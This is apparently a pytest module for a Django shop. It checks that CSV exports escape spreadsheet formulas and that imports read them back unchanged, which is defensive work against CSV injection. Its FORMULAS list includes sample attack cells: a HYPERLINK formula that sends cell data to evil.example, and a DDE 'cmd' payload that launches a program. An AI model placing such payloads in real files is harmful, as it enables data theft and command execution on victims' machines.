"""Formulas in CSV cells: every exported CSV has them as text, and an import reads them back."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from shop.goods.exporter import export_goods
from shop.goods.formulas import for_spreadsheet, from_spreadsheet
from shop.goods.importer import import_goods
from shop.goods.models import Category, Goods, Picture, Sku
from shop.variants.customer_a import models as customer_a
from tenants import TenantInfo, use_tenant
from tests.shop.test_exporter import contents

ROOT = Path(__file__).parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "'-5", "'", "'quoted'", "+82 10", "-", "=",
    "=cmd|' /C calc'!A0",
]  # fmt: skip


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet would compute a cell; a negative number alone is harmless."""
    begun = cell.lstrip(" ")
    try:
        float(begun)
    except ValueError:
        return begun[:1] in tuple("=+-@＝＋－＠") or cell[:1] in tuple("\t\r\n")
    return begun.startswith("+")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_computes_is_written_as_text_and_read_back(text: str) -> None:
    assert not runs(for_spreadsheet(text))
    assert from_spreadsheet(for_spreadsheet(text)) == text


@given(st.text(alphabet=" '=+-@\t\r\n１＝－5.x", max_size=8))
def test_any_text_survives_a_spreadsheets_cell(text: str) -> None:
    assert from_spreadsheet(for_spreadsheet(text)) == text
    assert not runs(for_spreadsheet(text))


@pytest.mark.parametrize("text", ["-5", "-12.50", "5", "a=b", "x@y.z", "", "1-2"])
def test_numbers_and_other_texts_are_written_as_they_are(text: str) -> None:
    assert for_spreadsheet(text) == text


def cells(lines: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(lines, newline="")) for cell in row]


@pytest.mark.parametrize("text", [one for one in FORMULAS if one.strip() == one])
def test_an_export_runs_nothing_and_comes_back_as_it_was(acme: TenantInfo, text: str) -> None:
    """Fault 34: CSV exports handed formulas on."""
    with use_tenant(acme):
        category = Category.objects.create(name=text, slug="x")
        goods = Goods.objects.create(
            name=text, slug="-sheet", vendor=text, description=text, tags=[text, "b"], category=category,
            option_names=[text],
        )  # fmt: skip
        Sku.objects.create(
            goods=goods,
            code=text,
            barcode=text,
            option_values=[text],
            price=5,
            stock=-2,
            allow_backorders=True,
        )
        Picture.objects.create(goods=goods, source_url="https://a.example/1.jpg", alt=text)
        before = contents()
        lines = "".join(export_goods(address=str))
        assert [cell for cell in cells(lines) if runs(cell)] == []
        assert import_goods(io.BytesIO(lines.encode())).unchanged == 1
        assert contents() == before


def test_formulas_of_the_sample_come_back_as_they_were(acme: TenantInfo) -> None:
    """Fault 34: the sample of formulas, imported, exported and imported again."""
    with use_tenant(acme):
        import_goods(io.BytesIO((ROOT / "tests/data/import/formulas.csv").read_bytes()))
        goods = Goods.objects.get()
        assert (goods.name[:10], goods.description, goods.vendor) == ("=HYPERLINK", "-2+3", "@SUM(1+1)")
        assert goods.skus.get().code == "=1+1"
        lines = "".join(export_goods(address=str))
        assert [cell for cell in cells(lines) if runs(cell)] == []
        assert import_goods(io.BytesIO(lines.encode())).unchanged == 1


def test_every_way_to_an_export_writes_no_formula(
    acme: TenantInfo, client_of: Callable[[TenantInfo], Client], tmp_path: Path
) -> None:
    client = client_of(acme)
    with use_tenant(acme):
        goods = Goods.objects.create(name="=1+1", slug="sheet")
        Sku.objects.create(goods=goods, price=5)
        client.force_login(User.objects.get())
    answer: Any = client.post("/admin/goods/goods/", {"action": "export", "_selected_action": [goods.pk]})
    call_command("export_goods", "acme", str(tmp_path / "goods.csv"))
    for text in (b"".join(answer.streaming_content).decode(), (tmp_path / "goods.csv").read_text()):
        assert "'=1+1" in cells(text)


def test_columns_of_a_variant_write_no_formula(shop_of: Callable[..., TenantInfo]) -> None:
    with use_tenant(shop_of("customer_a")):
        lamp = customer_a.Goods.objects.create(name="Lamp", slug="lamp", category_code="=1+1", vendor_code="'+2")
        Sku.objects.create(goods=lamp, price=10)
        before, lines = contents(), "".join(export_goods(address=str))
        assert [cell for cell in cells(lines) if runs(cell)] == []
        assert import_goods(io.BytesIO(lines.encode())).unchanged == 1
        assert contents() == before


def test_no_module_writes_a_csv_past_the_guard() -> None:
    """Fault 34: a new export finds the guard: all cells go through `for_spreadsheet`."""
    writers = []
    for path in sorted([*ROOT.glob("shop/**/*.py"), *ROOT.glob("tenants/**/*.py")]):
        calls = {node.attr for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Attribute)}
        if calls & {"writerow", "writerows", "DictWriter"}:
            writers.append((str(path.relative_to(ROOT)), "for_spreadsheet(" in path.read_text()))
    assert writers == [("shop/goods/exporter.py", True)]
